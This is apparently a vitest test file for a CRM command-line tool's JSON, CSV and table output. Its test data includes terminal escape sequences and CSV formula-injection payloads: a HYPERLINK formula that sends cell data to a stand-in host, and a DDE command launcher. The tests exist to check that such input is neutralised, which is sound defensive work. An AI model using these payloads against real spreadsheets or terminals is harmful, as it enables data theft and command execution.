import { closeSync, openSync } from "node:fs";
import { devNull } from "node:os";
import { createTask, crmPackage } from "@workbelt/crm-tools";
import { pageUpdate } from "@workbelt/notes-tools";
import { seedId } from "@workbelt/sandbox";
import { parse } from "csv-parse/sync";
import stringWidth from "string-width";
import { describe, expect, test } from "vitest";
import { readTable } from "../../src/input/read-table.js";
import { Fields } from "../../src/output/fields.js";
import { formatCsv } from "../../src/output/format-csv.js";
import { formatJson } from "../../src/output/format-json.js";
import { formatFields, formatRows } from "../../src/output/format-table.js";
import { finish, startServices } from "../helpers/command.js";

const hostile = "\u001B[31mred\u001B]0;title\u0007 \u009B2J \u202Eevil";

test("no control character of a text reaches the output", async () => {
  const { workbelt } = await startServices();
  await workbelt.run(["crm", "create-task", "--content", hostile]);
  for (const format of ["json", "table", "compact"]) {
    const list = ["crm", "list-tasks", "--limit", "500", "--format", format];
    const { output } = await workbelt.run(list);
    expect(output).toContain("red");
    expect(output.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\u202E]/u);
  }
});

describe("names of the records, people and databases in a result", () => {
  const entries = ["crm", "list-entries", "--list", "expansion_accounts"];

  test.each(["table", "compact"])("are in the %s form", async (format) => {
    const { workbelt } = await startServices();
    const { output } = await workbelt.run([...entries, "--format", format]);
    expect(output).toContain("record_name");
    expect(output).toContain("Harborline Freight");
    const tasks = await workbelt.run(["crm", "list-tasks", "--format", format]);
    expect(tasks.output).toContain("Lena Hoffmann");
    const rows = await workbelt.run(["notes", "data-fetch", "--format", format]);
    expect(rows.output).toMatch(
      / {2}Feature requests|"database_id":"[^"]+","title":"Feature requests"/,
    );
  });

  test("are in each line of --all --format compact", async () => {
    const { workbelt } = await startServices();
    const { output } = await workbelt.run([...entries, "--all", "--format", "compact"]);
    const items = output.trimEnd().split("\n");
    expect(items.filter((line) => line.includes('"record_name":'))).toEqual(items);
  });

  test("are not in the JSON form, which has the service's own values", async () => {
    const { workbelt } = await startServices();
    const { output } = await workbelt.run([...entries, "--format", "json"]);
    expect(output).toContain("parent_record_id");
    expect(output).not.toContain("record_name");
  });
});

describe("--fields", () => {
  const list = ["crm", "list-tasks", "--limit", "2"];

  test("keeps the chosen keys of JSON, and what the list has beside its items", async () => {
    const { workbelt } = await startServices();
    const fields = ["--fields", "content_plaintext,id.task_id"];
    const { items, ...page } = (await workbelt.json(...list, ...fields)) as { items: object[] };
    expect(items.map((item) => Object.keys(item))).toEqual([
      ["content_plaintext", "id"],
      ["content_plaintext", "id"],
    ]);
    expect(items[0]).toMatchObject({ id: { task_id: expect.any(String) as unknown } });
    expect(page).toEqual({ next_offset: 2 });
  });

  test("makes the columns of CSV, which says on the standard error that the list continues", async () => {
    const { workbelt } = await startServices();
    const csv = ["--format", "csv", "--fields", "content,assignees.actor_name,stge"];
    const { errors, output } = await workbelt.run([...list, ...csv]);
    const rows = parse(output, { columns: true, record_delimiter: "\r\n" });
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({ "assignees.actor_name": "Lena Hoffmann", stge: "" });
    expect(errors).toMatch(/^The list continues: --all returns all of it\.\n/);
    expect(errors).toMatch(/^Nothing has the field "stge"\.\nThere are: task_id, content, /m);
  });

  test.each([
    ["a.b", { a: [{ b: 1 }, { b: 2 }], c: 3 }, { a: [{ b: 1 }, { b: 2 }] }, "[1,2]"],
    ["a.b.c", { a: { "b.c": "x", b: { c: "y" } } }, { a: { "b.c": "x" } }, "x"],
    ["a.b", { a: null }, { a: null }, ""],
    ["b", { a: { b: 1, c: 2 } }, { a: { b: 1 } }, "1"],
    ["b", { a: { b: 1 }, c: { b: 2 } }, { b: null }, ""],
    ["a", "text", null, ""],
    ["__proto__", {}, JSON.parse('{"__proto__":null}') as object, ""],
    ["constructor", {}, { constructor: null }, ""],
  ])("%s of %j is %j, and in a table %j", (name, item, selected, cell) => {
    const fields = new Fields([name]);
    expect(JSON.stringify(fields.select(item))).toBe(JSON.stringify(selected));
    expect([...fields.toRow(item)]).toEqual([[name, cell]]);
  });

  test("a field that nothing has is answered with the nearest one", () => {
    const fields = new Fields(["titel", "name"]);
    fields.select({ title: "x", name: "y" });
    expect(fields.describeMissing()).toBe(
      'Nothing has the field "titel". Did you mean title?\nThere are: title, name.',
    );
    expect(new Fields(["titel"]).describeMissing()).toBeUndefined();
  });
});

describe("CSV", () => {
  test("is read back as it was, and ends each line with both characters", () => {
    const items = [
      { a: 'say "hi", twice\nor not', b: ["x", "y"] },
      { a: "", c: { d: 1 } },
    ];
    const lines = [...formatCsv(items)].map((line) => `${line}\n`).join("");
    expect(lines.startsWith("a,b,c.d\r\n")).toBe(true);
    expect(parse(lines)).toEqual([
      ["a", "b", "c.d"],
      ['say "hi", twice\nor not', '["x","y"]', ""],
      ["", "", "1"],
    ]);
  });

  test.each([
    ["text", "Call Gemma"],
    ["what looks like JSON", '["a"]'],
    ["quotes", '"Acme" Ltd'],
    ["a text in quotes", '"1984"'],
    ["a formula", '=HYPERLINK("http://x.example/?"&A1)'],
    ["a formula behind apostrophes", "''=1+1"],
    ["an apostrophe", "'n Sync"],
    ["control characters", hostile],
    ["line breaks", "a\r\nb\n\u2028c"],
    ["a list", ["a, b", "c"]],
    ["objects", [{ name: "a" }]],
    ["a date", "2026-12-01"],
  ])("%s is read back as it was", (_name, value) => {
    const pages = { operation: pageUpdate, listResultNames: () => new Set<string>() };
    const text = [...formatCsv([{ page_id: "1", properties: { "Vol. 1": value } }])]
      .join("\n")
      .trimEnd();
    const read = readTable(text, pages, undefined);
    expect(read).toEqual([{ page_id: "1", properties: { "Vol. 1": value } }]);
  });

  test.each(["Call", '["a"]', '"1984"', "=1+1", "''=1+1", hostile])(
    "the text %j is read back from a column of text",
    (content) => {
      const text = [...formatCsv([{ content }])].join("\n").trimEnd();
      const tasks = { operation: createTask, listResultNames: () => new Set<string>() };
      expect(readTable(text, tasks, undefined)).toEqual([{ content }]);
    },
  );

  test.each([
    ['=HYPERLINK("http://x.example/?"&A1)', true],
    ["@SUM(A1)", true],
    ["-cmd|' /C calc'!A0", true],
    ["\t=1+A1", true],
    ["\u200B=1+A1", true],
    ["＝A1", true],
    ["+44 20 7946 0018", false],
    ["-12.50", false],
    ["-1e-7", false],
    ["a=b", false],
    ["--", false],
  ])("a spreadsheet computes nothing of %j", (text, isInert) => {
    const [, line = ""] = [...formatCsv([{ text }])];
    const [[cell = ""] = []] = parse(line.trimEnd(), { relax_quotes: true });
    expect([cell.startsWith("'"), cell.endsWith(text.slice(-2))]).toEqual([isInert, true]);
  });
});

test("JSON with escapes is the same data", () => {
  expect(JSON.parse(formatJson({ hostile }))).toEqual({ hostile });
});

describe("the table of a list", () => {
  const UUID = /[\da-f]{8}-[\da-f]{4}/;
  const list = ["crm", "list-deals", "--limit", "3", "--format", "table"];

  test("shows names, amounts and dates, and says in one line how to see the ids", async () => {
    const { workbelt } = await startServices();
    const { output } = await workbelt.run(list);
    const [heading = "", deal = ""] = output.split("\n");
    const columns = ["name", "stage", "owner", "value", "associated_company", "created_at"];
    expect(heading.split(/ {2,}/).slice(0, 6)).toEqual(columns);
    expect(deal).toMatch(
      /^Harborline – Track control tower {2,}Won 🎉 {2,}Daniel Okafor {2,}148000 USD {2,}/,
    );
    expect(deal).toContain("  Harborline Freight  ");
    expect(deal).toContain("Elif Demir, ");
    expect(output).not.toMatch(UUID);
    expect(output).toMatch(/\n\nNot shown: ids \(--ids\)\. --format json shows everything\.\n$/);
  });

  test("begins with the ids of its rows if they are asked for", async () => {
    const { workbelt } = await startServices();
    const { output } = await workbelt.run([...list, "--ids"]);
    const [heading, ...rows] = output.split("\n").slice(0, 4);
    expect(heading).toMatch(/^record_id {2,}name {2,}stage /);
    for (const row of rows) expect(row).toMatch(/^[\da-f-]{36} {2}\w/);
    expect(output).not.toContain("Not shown");
  });

  test("shows the names, the stage and the amount at a terminal of 120 columns", async () => {
    const { workbelt } = await startServices();
    const page = await workbelt.json(...list.slice(0, -1), "compact");
    const { items } = page as { items: object[] };
    const { idKinds: kinds } = crmPackage.service;
    const options = { ids: "none", columnKeys: ["values"], kinds } as const;
    const { lines } = formatRows(items, 120, options);
    expect(lines[1]).toMatch(
      /^Harborline – Track control tower .* Daniel Okafor {2}148000 USD {2}/,
    );
    expect(lines[0]?.split(/ {2,}/)).toEqual(["name", "stage", "owner", "value", "created_at"]);
  });

  test("shows the ids of rows that have nothing else", () => {
    const id = "6d4ea28a-784c-42ed-a7c3-11a2f407e075";
    const { lines } = formatRows([{ entry_id: id }], 80, { ids: "none" });
    expect(lines[1]).toBe(id);
  });

  test("has chosen fields under the names without the object that has them", async () => {
    const { workbelt } = await startServices();
    const fields = ["--fields", "name,value,associated_company,record_id"];
    const { output, errors } = await workbelt.run([...list, ...fields]);
    expect(output).toMatch(/^name +value +associated_company +record_id\n/);
    expect(output).toMatch(/\nHarborline .* {2}148000 USD {2}Harborline Freight +[\da-f-]{36}\n/);
    expect(errors).toBe("");
  });
});

test("a table fits the terminal, and names what it has no room for", () => {
  const row = Object.fromEntries(
    ["id", "name", "town", "street", "note", "more", "last"].map((key) => [key, "値".repeat(20)]),
  );
  const { lines, hidden } = formatRows([row, { id: "1" }], 60);
  expect(lines.map((line) => stringWidth(line)).every((width) => width <= 60)).toBe(true);
  expect(hidden).toEqual(["street", "note", "more", "last"]);
  expect(lines[1]).toContain("…");
});

test("one record is shown by its attributes, the name first and the id on request", async () => {
  const { workbelt } = await startServices();
  const get = ["crm", "get-deal", seedId("crm/deals/harborline-track"), "--format", "table"];
  const { output } = await workbelt.run(get);
  expect(output).toMatch(/^name +Harborline – Track control tower\nstage +Won 🎉\n/);
  expect(output).toMatch(/\nvalue +148000 USD\n/);
  expect(output).toMatch(/\nassociated_company +Harborline Freight\n/);
  expect(output).toMatch(/\n\nNot shown: ids \(--ids\)\. --format json shows everything\.\n$/);
  expect(output).not.toMatch(/values\.| [\da-f-]{36}\n/);
  const { output: withId } = await workbelt.run([...get, "--ids"]);
  expect(withId).toMatch(/\n\w+ +[\da-f-]{36}\n$/);
});

test("times in UTC are shown to the minute, and those at midnight as dates", () => {
  const rows = [
    { name: "Call", due_at: "2026-12-01T17:00:00.000000000Z" },
    { name: "Offer", due_at: "2026-12-04T00:00:00Z" },
    { name: "Visit", due_at: "2026-12-04T09:30:00+02:00" },
  ];
  expect(formatRows(rows, 80).lines.slice(1)).toEqual([
    "Call   2026-12-01 17:00",
    "Offer  2026-12-04",
    "Visit  2026-12-04T09:30:00+02:00",
  ]);
});

test("columns are as wide as their texts where there is room", () => {
  expect(formatRows([{ id: "1", name: "Acme" }, { id: "22" }], 80).lines).toEqual([
    "id  name",
    "1   Acme",
    "22",
  ]);
});

test("the lines of a long text stay below each other", () => {
  expect(formatFields({ id: "1", text: "one\ntwo" })).toEqual(["id    1", "text  one\n      two"]);
});

test("an output that cannot be written, as on a full disk, is an error that says so", async () => {
  const { workbelt } = await startServices();
  // Nothing can be written to a file that is open for reading.
  const output = openSync(devNull, "r");
  const child = workbelt.start(["crm", "create-task", "--content", "Call"], { stdout: output });
  const { code, errors } = await finish(child);
  closeSync(output);
  expect([code, errors.split("\n")]).toEqual([
    1,
    [expect.stringMatching(/^The output could not be written: .*look before you repeat it\.$/), ""],
  ]);
});
